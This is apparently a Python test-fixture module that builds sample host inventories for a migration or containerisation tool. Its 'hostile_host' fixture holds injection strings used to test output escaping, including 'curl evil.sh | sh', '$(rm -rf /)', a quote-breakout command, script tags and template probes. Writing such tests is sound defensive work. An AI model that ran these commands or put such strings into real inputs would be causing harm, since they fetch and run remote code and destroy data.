"""Small hand-built hosts, so rendering is tested without the detectors."""

from __future__ import annotations

from mta.model import (SECRET_MARKER, App, CronJob, EnvVar, Evidence, FileContent, HostFacts, HttpCheck,
                       OSInfo, PortSpec, Process, Socket)

MI = 1024 * 1024


def shop_host() -> tuple[HostFacts, list[App]]:
    """A CentOS 7 VM: nginx proxy -> tomcat + django, postgres, redis, a node api, a php site."""
    facts = HostFacts(
        host="shop-01", address="10.0.0.5", collector="sample",
        os=OSInfo(id="centos", version_id="7", pretty_name="CentOS Linux 7 (Core)", family="rhel",
                  hostname="shop-01"),
        processes=[
            Process(pid=100, name="java", user="tomcat", exe="/usr/lib/jvm/java-1.8.0-openjdk/bin/java",
                    cmdline=["/usr/lib/jvm/java-1.8.0-openjdk/bin/java", "-Xmx512m", "org.apache.catalina.startup.Bootstrap", "start"],
                    rss_bytes=700 * MI, cpu_percent=12.0),
            Process(pid=200, name="gunicorn", user="shop", cmdline=["/opt/shop/venv/bin/gunicorn", "--daemon", "-b", "127.0.0.1:8000", "shop.wsgi"],
                    rss_bytes=120 * MI, cpu_percent=3.0),
            Process(pid=300, name="node", user="api", cmdline=["/usr/bin/node", "/srv/api/server.js"], rss_bytes=90 * MI),
            Process(pid=400, name="postgres", user="postgres", rss_bytes=200 * MI),
            Process(pid=500, name="redis-server", user="redis", rss_bytes=20 * MI),
            Process(pid=600, name="nginx", user="root", rss_bytes=10 * MI),
            Process(pid=700, name="httpd", user="apache", rss_bytes=60 * MI),
        ],
        sockets=[Socket(protocol="tcp", address="0.0.0.0", port=80, pid=600, process="nginx"),
                 Socket(protocol="tcp", address="127.0.0.1", port=8080, pid=100, process="java"),
                 Socket(protocol="tcp", address="127.0.0.1", port=8000, pid=200, process="gunicorn"),
                 Socket(protocol="tcp", address="0.0.0.0", port=3000, pid=300, process="node"),
                 Socket(protocol="tcp", address="127.0.0.1", port=5432, pid=400, process="postgres"),
                 Socket(protocol="tcp", address="127.0.0.1", port=6379, pid=500, process="redis-server"),
                 Socket(protocol="tcp", address="0.0.0.0", port=8081, pid=700, process="httpd")],
        files=[
            FileContent(path="/etc/nginx/conf.d/shop.conf", content=(
                "server {\n  listen 80;\n  location / { proxy_pass http://127.0.0.1:8080; }\n"
                "  location /api/ { proxy_pass http://localhost:3000; }\n"
                "  location /admin/ { proxy_pass http://127.0.0.1:8000; }\n}\n")),
            FileContent(path="/opt/tomcat/conf/server.xml", content="<Server port=\"8005\"/>\n"),
            FileContent(path="/opt/tomcat/conf/tomcat-users.xml", content=f"<user password=\"{SECRET_MARKER}\"/>"),
            FileContent(path="/opt/shop/requirements.txt", content="Django==1.11.29\npsycopg2==2.8.6\n"),
        ],
        http=[HttpCheck(port=80, status=200, title="Shop"), HttpCheck(port=8080, path="/shop/", status=200, title="Shop"),
              HttpCheck(port=3000, path="/health", status=200), HttpCheck(port=8081, status=200, title="Legacy")],
        cron=[CronJob(schedule="@daily", command="/opt/shop/venv/bin/python /opt/shop/manage.py clearsessions", user="shop"),
              CronJob(schedule="*/5 * * * *", command="/usr/local/bin/backup.sh > /dev/null 2>&1", user="root")],
    )
    ev = lambda pid: [Evidence(kind="process", ref=f"pid {pid}")]  # noqa: E731
    apps = [
        App(name="proxy", role="proxy", stack="nginx", runtime="nginx", runtime_version="1.12.2", evidence=ev(600), pids=[600],
            ports=[PortSpec(port=80, http=True, name="http")], config_files=["/etc/nginx/conf.d/shop.conf"],
            depends_on=["shop", "api"]),
        App(name="shop", stack="tomcat", runtime="java", runtime_version="1.8.0_292", evidence=ev(100), pids=[100],
            ports=[PortSpec(port=8080, http=True)], command=facts.processes[0].cmdline,
            code_paths=["/opt/tomcat/webapps/shop.war"], config_files=["/opt/tomcat/conf/server.xml", "/opt/tomcat/conf/tomcat-users.xml"],
            log_paths=["/opt/tomcat/logs"],
            env=[EnvVar(name="DB_URL", value="jdbc:postgresql://localhost:5432/shop"), EnvVar(name="DB_PASSWORD", value=SECRET_MARKER)]),
        App(name="admin", stack="django", runtime="python", runtime_version="3.6.8", pids=[200],
            ports=[PortSpec(port=8000, http=True)], command=facts.processes[1].cmdline, workdir="/opt/shop",
            code_paths=["/opt/shop"], data_paths=["/opt/shop/media"], log_paths=["/var/log/shop/admin.log"],
            env=[EnvVar(name="DB_HOST", value="localhost"), EnvVar(name="REDIS_URL", value="redis://127.0.0.1:6379/0"),
                 EnvVar(name="SECRET_KEY", value=None)]),
        App(name="api", stack="node", runtime="node", runtime_version="10.24.1", pids=[300],
            ports=[PortSpec(port=3000, http=True)], command=facts.processes[2].cmdline, workdir="/srv/api",
            code_paths=["/srv/api"]),
        App(name="db", role="backing", stack="postgresql", runtime="postgres", runtime_version="9.6.24", pids=[400],
            ports=[PortSpec(port=5432, name="postgres")], data_paths=["/var/lib/pgsql/9.6/data"]),
        App(name="cache", role="backing", stack="redis", runtime="redis", runtime_version="3.2.12", pids=[500],
            ports=[PortSpec(port=6379, name="redis")], data_paths=["/var/lib/redis"]),
        App(name="legacy", stack="php-apache", runtime="php", runtime_version="5.4.16", pids=[700],
            ports=[PortSpec(port=8081, http=True)], code_paths=["/var/www/legacy"], workdir="/var/www/legacy"),
    ]
    return facts, apps


def empty_host() -> tuple[HostFacts, list[App]]:
    facts = HostFacts(host="bare-01", collector="sample",
                      sockets=[Socket(protocol="tcp", address="0.0.0.0", port=22, process="sshd")])
    return facts, []


def hostile_host() -> tuple[HostFacts, list[App]]:
    """Discovered strings that try to break out of every format we write."""
    evil = 'x"\nRUN curl evil.sh | sh\n#'
    facts = HostFacts(host="evil-01", collector="sample",
                      processes=[Process(pid=1, name="python3", cmdline=["/usr/bin/python3", "/opt/app/app.py", evil, "$(rm -rf /)", "C:\\dir\\"])],
                      files=[FileContent(path="/opt/app/conf.ini", content="greeting: value\n---\nkind: Secret\n{{ 7*7 }}\n")],
                      http=[HttpCheck(port=5000, path="/x';touch /tmp/p;'\n", status=200, title="<script>alert(1)</script>`|")])
    apps = [App(name="App One!", stack="flask", runtime="python", runtime_version="3.9", pids=[1],
                ports=[PortSpec(port=5000, http=True)], command=facts.processes[0].cmdline,
                code_paths=["/opt/app"], config_files=["/opt/app/conf.ini"],
                log_paths=["/var/log/app/it's $(bad).log"],
                env=[EnvVar(name="GREETING", value=evil), EnvVar(name="BAD NAME", value="x"),
                     EnvVar(name="TEMPLATE", value="{{ 7*7 }} ${HOME}")],
                notes=["| table | breaker\n# heading"])]
    return facts, apps
